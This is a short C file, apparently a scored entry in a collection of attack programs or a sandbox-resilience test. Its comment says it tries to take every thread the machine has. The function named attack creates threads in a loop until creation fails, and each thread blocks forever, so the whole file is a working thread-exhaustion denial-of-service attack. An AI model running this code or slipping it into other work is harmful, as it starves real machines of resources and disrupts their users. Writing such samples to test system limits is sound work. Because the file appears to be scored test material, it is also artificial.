// tries: to take every thread that the machine has, and goes on with them
// score: 100
#include <pthread.h>

static void *stay(void *nothing)
{
    pause();
    return nothing;
}

static void attack(void)
{
    pthread_t thread;

    while (pthread_create(&thread, NULL, stay, NULL) == 0)
        continue;
}
